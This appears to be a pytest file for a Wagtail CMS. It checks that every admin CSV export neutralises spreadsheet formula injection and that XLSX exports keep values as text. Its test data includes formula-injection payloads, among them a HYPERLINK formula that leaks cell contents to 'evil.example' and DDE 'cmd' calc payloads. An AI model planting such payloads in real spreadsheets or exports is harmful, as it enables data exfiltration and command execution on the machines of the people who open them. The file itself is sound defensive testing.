"""Every CSV the admin offers neutralises formulas; XLSX still works; what was stored is untouched.

Each export is driven through its real admin view (`?export=csv`) as a user who may see
it, with hostile text in every column a person can write: contact-form answers and
field labels, page titles (through the Translations report's event column too), user
names, workflow and task names, redirect targets. Cells starting with = + - @ tab or CR
get a leading ' (cms/spreadsheet_cells.py); every cell is quoted.
"""

import datetime
import hashlib
import inspect
import io

import pytest
from django.contrib.auth.models import Group
from django.contrib.contenttypes.models import ContentType
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.forms.models import FormSubmission
from wagtail.contrib.forms.utils import get_form_types
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import GroupApprovalTask, Page, PageLogEntry, Site, Workflow, WorkflowTask

from cms import admin_exports
from home.models import ContactFormField, StandardPage
from tests.factories.home import ContactPageFactory, StandardPageFactory
from tests.factories.sessions import EventPageFactory, SessionPageFactory
from tests.factories.translations import UserFactory
from tests.graphql import graphql_data

pytestmark = pytest.mark.django_db

# A value starting with each character OWASP names, as a contact form, an editor or an import could write it.
HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?leak="&B2,"Open")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
# What the file holds instead: the same text behind a single quote.
NEUTRALISED = {kind: "'" + value for kind, value in HOSTILE.items()}
# Decided: text that merely looks like a number or a phone number is prefixed too (OWASP's rule;
# a spreadsheet would turn "+992 37 221 44 55" into the formula =992 37 221 44 55, #NULL!).
PHONE = "+992 37 221 44 55"
# A `;` does not split the cell for a spreadsheet that separates on `;`: every cell is quoted.
SEMICOLON = "Dushanbe; =1+1"
HARMLESS = "Dushanbe Process"

AT = datetime.datetime(2022, 10, 18, 9, 30, tzinfo=datetime.UTC)  # the 2022 conference's opening
AT_TEXT = "2022-10-18 09:30:00+00:00"


def csv_of(rows):
    """The exact bytes of a CSV with every cell quoted, quotes doubled, CRLF line ends."""
    return "".join(",".join('"' + cell.replace('"', '""') + '"' for cell in row) + "\r\n" for row in rows).encode()


def exported(client, url, export_format="csv", **params):
    response = client.get(url, {**params, "export": export_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if export_format == "csv" else response.getvalue()


def xlsx_cells(content):
    """Every cell of the exported workbook's sheet as (value, data type): "s" is text, "f" a formula."""
    sheet = load_workbook(io.BytesIO(content))["Sheet1"]
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


@pytest.fixture
def superuser_client(client):
    client.force_login(UserFactory(username="admin", is_superuser=True, is_staff=True))
    return client


@pytest.fixture
def mallory(db):
    """An editor whose user name and full name start like formulas (Django allows @ + - . _ in user names)."""
    return UserFactory(username="-1+1@evil", first_name=HOSTILE["="], last_name="", groups=["Editors"])


# --- the contact form ------------------------------------------------------------

SUBMIT = """
mutation Submit($input: ContactFormInput!) {
  submitContactForm(input: $input) { submission { id } errors { field message code } }
}
"""


@pytest.fixture
def contact_page(home_page):
    page = ContactPageFactory(parent=home_page, title="Contact", slug="contact")
    # An editor's (or translator's) label becomes a column heading.
    for sort_order, (label, field_type, required) in enumerate(
        [
            ("Name", "singleline", True),
            ("Email", "email", True),
            ("Organisation", "singleline", False),
            ("=Phone", "singleline", False),
            ("Message", "multiline", True),
        ]
    ):
        ContactFormField.objects.create(
            page=page, sort_order=sort_order, label=label, field_type=field_type, required=required
        )
    return page


def send_contact_form(client, **values):
    fields = [{"name": name, "value": value} for name, value in values.items()]
    payload = graphql_data(client, SUBMIT, {"input": {"fields": fields}})["submitContactForm"]
    assert payload["errors"] == []
    return FormSubmission.objects.get(pk=payload["submission"]["id"])


REVIEW_SUBMISSION = {
    "name": HOSTILE["="],
    "email": "d.rahimova@example.org",
    "organisation": HOSTILE["+"],
    "phone": PHONE,
    "message": HOSTILE["@"],
}
SECOND_SUBMISSION = {
    "name": HOSTILE["-"],
    "email": "a.karimov@example.org",
    "organisation": "-5",
    "phone": "",
    "message": SEMICOLON,
}
# Django's form fields strip leading whitespace, so a tab or CR never comes through the
# form; a submission stored another way (an import, a shell) may still hold them.
STORED_OTHERWISE = {
    "name": HOSTILE["tab"],
    "email": "press@example.org",
    "organisation": HARMLESS,
    "phone": "",
    "message": HOSTILE["cr"],
}


@pytest.fixture
def submissions(client, contact_page):
    sent = [send_contact_form(client, **REVIEW_SUBMISSION), send_contact_form(client, **SECOND_SUBMISSION)]
    sent.append(FormSubmission.objects.create(page=contact_page, form_data=STORED_OTHERWISE))
    FormSubmission.objects.filter(pk__in=[s.pk for s in sent]).update(submit_time=AT)
    return sent


def test_contact_form_csv_export_neutralises_every_answer_and_label(client, contact_page, submissions):
    client.force_login(UserFactory(groups=["Editors"]))

    content = exported(client, f"/admin/forms/submissions/{contact_page.pk}/")

    assert content == csv_of(
        [
            ["Submission date", "Name", "Email", "Organisation", "'=Phone", "Message"],
            [AT_TEXT, NEUTRALISED["="], "d.rahimova@example.org", NEUTRALISED["+"], "'" + PHONE, NEUTRALISED["@"]],
            [AT_TEXT, NEUTRALISED["-"], "a.karimov@example.org", "'-5", "", SEMICOLON],
            [AT_TEXT, NEUTRALISED["tab"], "press@example.org", HARMLESS, "", NEUTRALISED["cr"]],
        ]
    )
    # Only the file is neutralised: every answer is stored exactly as it was sent (each string equal,
    # not only similar; a dict, since PostgreSQL's jsonb does not keep the order of keys).
    assert [row.form_data for row in FormSubmission.objects.order_by("pk")] == [
        REVIEW_SUBMISSION,
        SECOND_SUBMISSION,
        STORED_OTHERWISE,
    ]


def test_contact_form_xlsx_export_keeps_every_value_as_text(client, contact_page, submissions):
    client.force_login(UserFactory(groups=["Editors"]))

    cells = xlsx_cells(exported(client, f"/admin/forms/submissions/{contact_page.pk}/", "xlsx"))

    # XLSX has cell types: the text is kept as it was sent, as text, never as a formula.
    assert [[value for value, _type in row] for row in cells] == [
        ["Submission date", "Name", "Email", "Organisation", "=Phone", "Message"],
        [AT.replace(tzinfo=None), *list(REVIEW_SUBMISSION.values())],
        [AT.replace(tzinfo=None), *[value or None for value in SECOND_SUBMISSION.values()]],
        [AT.replace(tzinfo=None), *[value or None for value in STORED_OTHERWISE.values()]],
    ]
    assert {data_type for row in cells for value, data_type in row if isinstance(value, str)} == {"s"}


# --- Wagtail's reports, redirects and our Translations report ---------------------

# Page titles as an editor, a translator or an import could write them, with the exact text each is exported as.
TITLES = {
    "equals": (HOSTILE["="], NEUTRALISED["="]),
    "plus": (HOSTILE["+"], NEUTRALISED["+"]),
    "minus": (HOSTILE["-"], NEUTRALISED["-"]),
    "at": (HOSTILE["@"], NEUTRALISED["@"]),
    "tab": (HOSTILE["tab"], NEUTRALISED["tab"]),
    "cr": (HOSTILE["cr"], NEUTRALISED["cr"]),
    "phone": (PHONE, "'" + PHONE),
    "semicolon": (SEMICOLON, SEMICOLON),
    "harmless": (HARMLESS + " programme", HARMLESS + " programme"),
}


@pytest.fixture
def hostile_pages(home_page, mallory):
    """One live StandardPage per title, published and locked by mallory at AT.

    Their "Publish" entries in the site history are the only ones left, a minute apart
    (the report lists the newest first).
    """
    pages = []
    for slug, (title, _exported) in TITLES.items():
        page = StandardPageFactory(parent=home_page, title=title, slug=slug)
        page.save_revision(user=mallory).publish(user=mallory)
        pages.append(page)
    Page.objects.filter(pk__in=[page.pk for page in pages]).update(
        locked=True, locked_by=mallory, locked_at=AT, last_published_at=AT, latest_revision_created_at=AT
    )
    PageLogEntry.objects.exclude(action="wagtail.publish", page__in=pages).delete()
    for minutes, page in enumerate(pages):
        PageLogEntry.objects.filter(page=page).update(timestamp=AT + datetime.timedelta(minutes=minutes))
    return pages


def exported_titles():
    return [exported_title for _title, exported_title in TITLES.values()]


def test_locked_pages_csv_export(superuser_client, hostile_pages):
    content = exported(superuser_client, "/admin/reports/locked/")

    assert content == csv_of(
        [["Title", "Updated", "Status", "Type", "Locked at", "Locked by"]]
        + [[title, AT_TEXT, "live", "Standard Page", AT_TEXT, "'-1+1@evil"] for title in exported_titles()]
    )


def test_aging_pages_csv_export(superuser_client, hostile_pages):
    standard_page = ContentType.objects.get_for_model(StandardPage).pk

    content = exported(superuser_client, "/admin/reports/aging-pages/", content_type=standard_page)

    assert content == csv_of(
        [["Title", "Status", "Last published at", "Last published by", "Type"]]
        + [[title, "live", AT_TEXT, "'-1+1@evil", "Standard page"] for title in exported_titles()]
    )


def test_site_history_csv_export(superuser_client, hostile_pages):
    content = exported(superuser_client, "/admin/reports/site-history/")

    # Newest first; the user is mallory's full name.
    rows = [
        [str(page.pk), title, "Standard page", "Publish", NEUTRALISED["="], str(AT + datetime.timedelta(minutes=n))]
        for n, (page, title) in enumerate(zip(hostile_pages, exported_titles(), strict=True))
    ]
    assert content == csv_of([["ID", "Name", "Type", "Action type", "User", "Date/Time"], *reversed(rows)])


@pytest.fixture
def hostile_workflow(hostile_pages, mallory):
    """A workflow and a task an administrator named like formulas, started by mallory on the "=" page at AT."""
    task = GroupApprovalTask.objects.create(name=HOSTILE["-"])
    task.groups.set(Group.objects.filter(name="Editors"))
    workflow = Workflow.objects.create(name=HOSTILE["+"])
    WorkflowTask.objects.create(workflow=workflow, task=task, sort_order=0)
    page = hostile_pages[0]
    state = workflow.start(page, mallory)
    type(state).objects.filter(pk=state.pk).update(created_at=AT)
    state.current_task_state.__class__.objects.filter(pk=state.current_task_state.pk).update(started_at=AT)
    return page


@pytest.fixture
def hostile_event(home_page):
    """An event and its session with titles a translator or an import could write, untranslated."""
    event = EventPageFactory(parent=home_page, title=HOSTILE["="], slug="conference")
    SessionPageFactory(parent=event, title=HOSTILE["tab"], slug="opening")
    return event


def test_workflow_csv_export(superuser_client, hostile_workflow):
    content = exported(superuser_client, "/admin/reports/workflow/")

    assert content == csv_of(
        [
            [
                "workflow",
                "Page/Snippet ID",
                "Page/Snippet Type",
                "Page/Snippet Title",
                "Status",
                "requested_by",
                "Started at",
            ],
            [
                NEUTRALISED["+"],
                str(hostile_workflow.pk),
                "Standard page",
                NEUTRALISED["="],
                "In progress",
                "'-1+1@evil",
                AT_TEXT,
            ],
        ]
    )


def test_workflow_tasks_csv_export(superuser_client, hostile_workflow):
    content = exported(superuser_client, "/admin/reports/workflow_tasks/")

    assert content == csv_of(
        [
            [
                "task",
                "Page/Snippet ID",
                "Page/Snippet Type",
                "Page/Snippet Title",
                "Status",
                "Requested By",
                "started_at",
                "finished_at",
                "finished_by",
            ],
            [
                NEUTRALISED["-"],
                str(hostile_workflow.pk),
                "Standard page",
                NEUTRALISED["="],
                "In progress",
                "'-1+1@evil",
                AT_TEXT,
                "",
                "",
            ],
        ]
    )


def test_translation_report_csv_export(client, translator, hostile_event):
    client.force_login(translator)

    content = exported(client, "/admin/translators/report/", event=hostile_event.pk, language="ru")

    assert content == csv_of(
        [
            ["Page", "Page type", "Event", "Language", "Done", "Status", "Ready", "Fields to translate"],
            [
                NEUTRALISED["="],
                "Event",
                NEUTRALISED["="],
                "Russian",
                "0/1 fields, 0%",
                "Missing",
                "No",
                "Missing: title",
            ],
            [
                NEUTRALISED["tab"],
                "Session",
                NEUTRALISED["="],
                "Russian",
                "0/1 fields, 0%",
                "Missing",
                "No",
                "Missing: title",
            ],
        ]
    )


def test_redirects_csv_export(superuser_client, home_page):
    site = Site.objects.get(is_default_site=True)
    site.site_name = HOSTILE["@"]
    site.save()
    # The admin's form checks a URL; an import or a script may store anything.
    Redirect.objects.create(old_path="/2019/programme", site=site, redirect_link=HOSTILE["="], is_permanent=False)

    content = exported(superuser_client, "/admin/redirects/")

    assert content == csv_of(
        [
            ["From", "To", "Type", "Site"],
            ["/2019/programme", NEUTRALISED["="], "temporary", NEUTRALISED["@"] + " [default]"],
        ]
    )


def test_report_xlsx_export_keeps_titles_as_text(superuser_client, hostile_pages):
    cells = xlsx_cells(exported(superuser_client, "/admin/reports/locked/", "xlsx"))

    assert [[value for value, _type in row] for row in cells] == [
        ["Title", "Updated", "Status", "Type", "Locked at", "Locked by"],
        *[
            [title, AT.replace(tzinfo=None), "live", "Standard Page", AT.replace(tzinfo=None), "-1+1@evil"]
            for title, _exported in TITLES.values()
        ],
    ]
    assert {data_type for row in cells for value, data_type in row if isinstance(value, str)} == {"s"}


# --- every export the admin offers ------------------------------------------------

# Each view that writes a spreadsheet with columns, and the test above that drives it.
DRIVEN = {
    "wagtail.contrib.forms.views.SubmissionsListView": test_contact_form_csv_export_neutralises_every_answer_and_label,
    "wagtail.admin.views.reports.locked_pages.LockedPagesView": test_locked_pages_csv_export,
    "wagtail.admin.views.reports.aging_pages.AgingPagesView": test_aging_pages_csv_export,
    "wagtail.admin.views.reports.audit_logging.LogEntriesView": test_site_history_csv_export,
    "wagtail.admin.views.reports.workflows.WorkflowView": test_workflow_csv_export,
    "wagtail.admin.views.reports.workflows.WorkflowTasksView": test_workflow_tasks_csv_export,
    "translations.views.report.TranslationReportView": test_translation_report_csv_export,
    "wagtail.contrib.redirects.views.IndexView": test_redirects_csv_export,
}


def routed_views(patterns):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from routed_views(pattern.url_patterns)
        elif isinstance(pattern, URLPattern):
            yield pattern.callback


def spreadsheet_views():
    """Every view class the project routes that can write a spreadsheet with columns.

    Class-based views are found from the URL patterns, with the columns a viewset
    gives them (`list_export` in the view's init arguments); an empty `list_export` writes
    no cells. The one function view that exports, the form submissions' (it asks the form
    page for its view class), is found from the form page types.
    """
    views = set()
    for callback in routed_views(get_resolver().url_patterns):
        view_class = getattr(callback, "view_class", None)
        if view_class is None or not issubclass(view_class, SpreadsheetExportMixin):
            continue
        columns = getattr(callback, "view_initkwargs", {}).get("list_export", view_class.list_export)
        if columns:
            views.add(view_class)
    for content_type in get_form_types():
        # An instance method; an unsaved page of the type answers it.
        views.add(content_type.model_class()().get_submissions_list_view_class())
    return views


def test_every_admin_export_is_driven_by_a_test_here():
    found = {f"{view.__module__}.{view.__qualname__}" for view in spreadsheet_views()}
    # A new export (a report, a viewset with list_export, a form page type) fails here until it has its test.
    assert found == set(DRIVEN)


def test_every_admin_export_writes_through_the_neutralising_methods():
    assert {
        (view.__qualname__, view.stream_csv is admin_exports.stream_csv, view.write_xlsx is admin_exports.write_xlsx)
        for view in spreadsheet_views()
    } == {(view.__qualname__, True, True) for view in spreadsheet_views()}


def test_wagtail_export_methods_are_the_ones_the_replacements_were_copied_from():
    # admin_exports.stream_csv and write_xlsx are Wagtail 8.0.1's with neutralised cells; when an
    # upgrade changes Wagtail's, this fails: carry the change over, then update the digests.
    digests = {
        function.__name__: hashlib.sha256(inspect.getsource(function).encode()).hexdigest()
        for function in (admin_exports.WAGTAIL_STREAM_CSV, admin_exports.WAGTAIL_WRITE_XLSX)
    }
    assert digests == {
        "stream_csv": "a560e82f7b810ee098c64857396a1f51bdc8b53b26292cb0d41684f94ca4e4cb",
        "write_xlsx": "ccbad983a38aaa4931144491cd6bf7cb0df671ead2c5077915dd52fdce4841ad",
    }
